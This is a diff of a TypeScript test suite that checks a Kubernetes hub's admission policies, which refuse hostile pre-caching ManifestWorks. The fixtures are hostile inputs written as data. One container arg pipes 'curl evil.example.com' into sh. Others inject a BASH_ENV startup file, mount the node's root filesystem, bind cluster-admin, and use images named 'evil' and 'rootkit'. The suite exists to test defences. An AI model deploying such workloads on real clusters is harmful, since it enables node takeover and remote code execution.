@@ -5,175 +5,20 @@ import type { KubernetesObject } from "#shared/domain/kubernetes/object.ts";
 import { referenceTo } from "#shared/domain/kubernetes/object.ts";
 import { manifestWork, withSuspend } from "#shared/domain/precache/work/manifest-work.ts";
 import { HubError } from "#shared/ports/hub.ts";
+import { anOwner } from "../support/hub/objects.ts";
+import {
+  cluster,
+  earlierWork,
+  hostileUpdates,
+  hostileWorks,
+  ownWork as own,
+} from "../support/precache/hostile-works.ts";
 import { aRun, release } from "../support/precache/precache-objects.ts";
 import { anUpgrade } from "../support/precache/precache-plan-objects.ts";
 import { startHub, type TestHub } from "./support/clusters/hub.ts";
 import { hubAccounts } from "./support/clusters/process-accounts.ts";
 import { createManifest } from "./support/manifests/apply-manifests.ts";
 import { asNew } from "./support/observe/as-new.ts";
-
-const cluster = "team-a";
-const content = { platformImage: release, additionalImages: [release], spaceRequired: "45" };
-const hints = { bandwidthMbits: 20, parallelPulls: 4 };
-const input = { run: aRun, content, image: "quay.io/hubrelay/precache:v1", timeoutMinutes: 240, ...hints };
-const own = manifestWork(cluster, input);
-
-type Fields = Record<string, unknown>;
-/** A copy of the function's own work with a change in the manifest of this kind. */
-function changed(kind: string, change: (manifest: Fields) => void): KubernetesObject {
-  const copy = structuredClone(own);
-  const manifests: readonly Fields[] = Object(copy.spec).workload.manifests;
-  const found = manifests.find((manifest) => manifest.kind === kind);
-  if (!found) throw new Error(`the work has no ${kind}`);
-  change(found);
-  return copy;
-}
-const changedPod = (change: (pod: Fields & { containers: Fields[]; volumes: Fields[] }) => void) =>
-  changed("Job", ({ spec }) => change(Object(spec).template.spec));
-const changedSpec = (change: (spec: Fields) => void): KubernetesObject => {
-  const copy = structuredClone(own);
-  change(Object(copy.spec));
-  return copy;
-};
-const more = (manifest: object) => changedSpec((spec) => Object(spec.workload).manifests.push(manifest));
-
-/** The content of works before the node's own kubelet configuration was read. */
-const nodesProxy = {
-  apiVersion: "rbac.authorization.k8s.io/v1",
-  kind: "ClusterRole",
-  metadata: { name: "hubrelay-pre-cache" },
-  rules: [{ apiGroups: [""], resources: ["nodes/proxy"], verbs: ["get"] }],
-};
-const nodesProxyBinding = {
-  ...nodesProxy,
-  kind: "ClusterRoleBinding",
-  rules: undefined,
-  roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "hubrelay-pre-cache" },
-  subjects: [{ kind: "ServiceAccount", name: "pre-cache-agent", namespace: "openshift-talo-pre-cache" }],
-};
-/** A work as an earlier version created it: with permissions on nodes and a Job without a memory limit. */
-function asBefore(): KubernetesObject {
-  const work = changedPod(({ containers: [container] }) => {
-    const { env } = Object(container);
-    env.push({ name: "NODE_NAME", valueFrom: { fieldRef: { fieldPath: "spec.nodeName" } } });
-    delete Object(container).resources;
-  });
-  const { manifests } = Object(work.spec).workload;
-  manifests.push(nodesProxy, nodesProxyBinding);
-  return work;
-}
-
-const refusedWorks: readonly Readonly<{ name: string; work: KubernetesObject; says: string }>[] = [
-  {
-    name: "When a work has another program's name, it should be refused",
-    work: { ...own, metadata: { ...own.metadata, name: "addon-work-manager" } },
-    says: "its own ManifestWorks only",
-  },
-  {
-    name: "When a work chooses the account that applies it, it should be refused",
-    work: changedSpec((spec) => {
-      const serviceAccount = { namespace: "kube-system", name: "root" };
-      spec.executor = { subject: { type: "ServiceAccount", serviceAccount } };
-    }),
-    says: "with the rights of the cluster's agent",
-  },
-  {
-    name: "When a work contains a Secret, it should be refused",
-    work: more({
-      apiVersion: "v1",
-      kind: "Secret",
-      metadata: { name: "s", namespace: "openshift-talo-pre-cache" },
-    }),
-    says: "stays in its own namespace",
-  },
-  {
-    name: "When a work contains a DaemonSet under the kind Job, it should be refused",
-    work: changed("Job", (job) => (job.apiVersion = "apps/v1")),
-    says: "stays in its own namespace",
-  },
-  {
-    name: "When a work has an object in another namespace, it should be refused",
-    work: changed("Job", ({ metadata }) => (Object(metadata).namespace = "kube-system")),
-    says: "stays in its own namespace",
-  },
-  {
-    name: "When a work contains a ClusterRole, even for the kubelet only, it should be refused",
-    work: more(nodesProxy),
-    says: "stays in its own namespace",
-  },
-  {
-    name: "When a work binds a ClusterRole in every namespace, it should be refused",
-    work: more(nodesProxyBinding),
-    says: "stays in its own namespace",
-  },
-  {
-    name: "When a Role reads every ConfigMap, it should be refused",
-    work: changed(
-      "Role",
-      (role) => (role.rules = [{ apiGroups: [""], resources: ["configmaps"], verbs: ["get"] }]),
-    ),
-    says: "write its progress only",
-  },
-  {
-    name: "When the account becomes an administrator, it should be refused",
-    work: changed("RoleBinding", ({ roleRef }) => (Object(roleRef).name = "cluster-admin")),
-    says: "its own roles and the privileged constraint",
-  },
-  {
-    name: "When another subject is bound, it should be refused",
-    work: changed(
-      "RoleBinding",
-      (binding) => (binding.subjects = [{ kind: "Group", name: "system:serviceaccounts" }]),
-    ),
-    says: "Only the workload's account may be bound",
-  },
-  {
-    name: "When the pod joins the node's processes, it should be refused",
-    work: changedPod((pod) => (pod.hostPID = true)),
-    says: "shares only its mounts with the node",
-  },
-  {
-    name: "When the pod has a second container, it should be refused",
-    work: changedPod(({ containers }) => containers.push({ name: "x", image: "quay.io/evil/x" })),
-    says: "one container",
-  },
-  {
-    name: "When the container runs something else, it should be refused",
-    work: changedPod(
-      ({ containers: [container] }) => (Object(container).args = ["curl evil.example.com | sh"]),
-    ),
-    says: "the workload's own script",
-  },
-  {
-    name: "When the container's shell gets a startup file, it should be refused",
-    work: changedPod(({ containers: [container] }) =>
-      Object(container).env.push({ name: "BASH_ENV", value: "/etc/config/platform.image" }),
-    ),
-    says: "with its own settings",
-  },
-  {
-    name: "When the container may use all memory of the node, it should be refused",
-    work: changedPod(({ containers: [container] }) => delete Object(container).resources),
-    says: "a memory limit",
-  },
-  {
-    name: "When the Job has no deadline, it should be refused",
-    work: changed("Job", ({ spec }) => delete Object(spec).activeDeadlineSeconds),
-    says: "a deadline",
-  },
-  {
-    name: "When the pod mounts the whole node, it should be refused",
-    work: changedPod(({ volumes }) => volumes.push({ name: "host-root", hostPath: { path: "/" } })),
-    says: "write its image storage only",
-  },
-  {
-    name: "When the pod may write the node's programs, it should be refused",
-    work: changedPod(({ containers: [container] }) => {
-      for (const mount of Object(container).volumeMounts) delete mount.readOnly;
-    }),
-    says: "write its image storage only",
-  },
-];
 
 describe("a client with an account of pre-caching", () => {
   let server: TestHub;
@@ -199,7 +44,7 @@ describe("a client with an account of pre-caching", () => {
   }
 
   /** Repeats a request until it is refused with this message. */
-  async function untilTold(says: string, request: () => Promise<KubernetesObject>): Promise<void> {
+  async function untilRefused(says: string, request: () => Promise<KubernetesObject>): Promise<void> {
     for (let patience = 100; patience > 0; patience--) {
       if ((await responseTo(request())).includes(says)) return;
       await sleep(100);
@@ -208,7 +53,8 @@ describe("a client with an account of pre-caching", () => {
   }
 
   beforeAll(async () => {
-    server = await startHub();
+    // The policies alone must refuse owners.
+    server = await startHub({ checksOwners: false });
     cleanup.defer(() => server.stop());
     person = cleanup.adopt(kubernetesHub(server.admin.kubeConfig), (hub) => hub.close());
     const userAccessOf = await hubAccounts(server);
@@ -238,9 +84,9 @@ describe("a client with an account of pre-caching", () => {
     // change.
     const another = () => [String(performance.now())];
     const otherName = { ...own, metadata: { ...own.metadata, name: "other" } };
-    await untilTold("own ManifestWorks only", () => as("precache-cluster").create(otherName));
-    await untilTold("but enable", () => as("precache-plan").update(withSpec({ clusters: another() })));
-    await untilTold("Only planning", () =>
+    await untilRefused("own ManifestWorks only", () => as("precache-cluster").create(otherName));
+    await untilRefused("but enable", () => as("precache-plan").update(withSpec({ clusters: another() })));
+    await untilRefused("Only planning", () =>
       as("precache-status").updateStatus(withPrecaching({ clusters: another() })),
     );
   });
@@ -261,7 +107,7 @@ describe("a client with an account of pre-caching", () => {
   const withPrecaching = (fields: object): KubernetesObject =>
     withStatus({ precaching: { ...Object(cgu.status).precaching, ...fields } });
 
-  test.for(refusedWorks)("$name", async ({ work, says }) => {
+  test.for(hostileWorks)("$name", async ({ work, says }) => {
     expect(await responseTo(as("precache-cluster").create(work))).toContain(says);
   });
 
@@ -274,9 +120,19 @@ describe("a client with an account of pre-caching", () => {
     await hub.delete({ ...referenceTo(own) });
   });
 
+  test("When an own work is changed in any other way, it should be refused", async () => {
+    const hub = as("precache-cluster");
+    const { metadata } = await hub.create(own);
+    for (const { work, says } of hostileUpdates) {
+      const changed = { ...work, metadata: { ...metadata, ...work.metadata } };
+      expect(await responseTo(hub.update(changed))).toContain(says);
+    }
+    await hub.delete(referenceTo(own));
+  });
+
   test("When a work of an earlier version runs, it should be suspended, resumed and removed, but not changed", async () => {
     const hub = as("precache-cluster");
-    const stored = await person.create(asBefore());
+    const stored = await person.create(earlierWork());
     const suspended = withSuspend(stored, true);
     const resumed = suspended && withSuspend(await hub.update(suspended), false);
     const latest = resumed && (await hub.update(resumed));
@@ -286,6 +142,33 @@ describe("a client with an account of pre-caching", () => {
     job.spec.template.spec.containers[0].image = "quay.io/evil/x";
     expect(await responseTo(hub.update(evil))).toContain("with its own settings");
     await hub.delete({ ...referenceTo(own) });
+  });
+
+  test("When the profile is hardened, only the deployment's image should be admitted, by digest", async () => {
+    const digest = `sha256:${"a".repeat(64)}`;
+    const image = `registry.lab:8443/hubrelay/workload@${digest}`;
+    const settings = {
+      apiVersion: "v1",
+      kind: "ConfigMap",
+      metadata: { namespace: "hubrelay", name: "hubrelay-settings" },
+      data: { HUBRELAY_PRECACHE_PROFILE: "hardened", HUBRELAY_WORKLOAD_IMAGE: image },
+    };
+    const workWith = (other: string) =>
+      manifestWork(cluster, { run: aRun, content: {}, image: other, timeoutMinutes: 240 });
+    const hub = as("precache-cluster");
+    const before = await hub.create(workWith("quay.io/hubrelay/precache-workload:0.1.0"));
+    await person.create(settings);
+    const refusal = "runs the image of HUBRELAY_WORKLOAD_IMAGE";
+    await untilRefused(refusal, () => hub.create(workWith(`quay.io/evil/rootkit@${digest}`)));
+    const suspended = withSuspend(before, true);
+    if (suspended) await hub.update(suspended);
+    await hub.delete(referenceTo(workWith(image)));
+    expect(await responseTo(hub.create(workWith("registry.lab:8443/hubrelay/workload:1")))).toContain(
+      refusal,
+    );
+    await hub.create(workWith(image));
+    await hub.delete(referenceTo(workWith(image)));
+    await person.delete(referenceTo(settings));
   });
 
   test("When a work of another program exists, it should be neither changed nor removed", async () => {
@@ -327,7 +210,13 @@ describe("a client with an account of pre-caching", () => {
       name: "When planning adds a finalizer, it should be refused",
       account: "precache-plan",
       change: () => withMetadata({ finalizers: ["example.com/held"] }),
-      says: "no labels and no finalizers",
+      says: "no labels, no finalizers",
+    },
+    {
+      name: "When planning gives the upgrade an owner that is missing, it should be refused",
+      account: "precache-plan",
+      change: () => withMetadata({ ownerReferences: [anOwner] }),
+      says: "no ownerReferences",
     },
     {
       name: "When following enables the rollout, it should be refused",
@@ -370,12 +259,25 @@ describe("a client with an account of pre-caching", () => {
       says: "status.precaching of a ClusterGroupUpgrade only",
     },
   ])("Of the status, $name", async ({ change, says }) => {
-    for (const account of ["precache-cluster", "precache-status"])
-      expect(await responseTo(as(account).updateStatus(change()))).toContain(says);
+    expect(await responseTo(as("precache-status").updateStatus(change()))).toContain(says);
+  });
+
+  test("When another function writes the progress of clusters, it should be refused", async () => {
+    const progress = withPrecaching({ status: { sno1: "Succeeded" } });
+    expect(await responseTo(as("precache-cluster").updateStatus(progress))).toContain("forbidden");
+    expect(await responseTo(as("precache-plan").updateStatus(progress))).toContain(
+      "Only precache-status writes the progress",
+    );
+    const [valid] = Object(cgu.status).conditions;
+    const done = withStatus({ conditions: [valid, { ...valid, type: "PrecachingSuceeded" }] });
+    expect(await responseTo(as("precache-plan").updateStatus(done))).toContain(
+      "Only precache-status writes the progress",
+    );
   });
 
   test("When they write what the functions write, it should be admitted", async () => {
-    cgu = await as("precache-cluster").updateStatus(withPrecaching({ status: { sno1: "PreparingToStart" } }));
+    cgu = await as("precache-status").updateStatus(withPrecaching({ status: { sno1: "PreparingToStart" } }));
+    cgu = await as("precache-plan").updateStatus(withPrecaching({ clusters: ["sno1"] }));
     const conditions = [
       ...Object(cgu.status).conditions,
       {
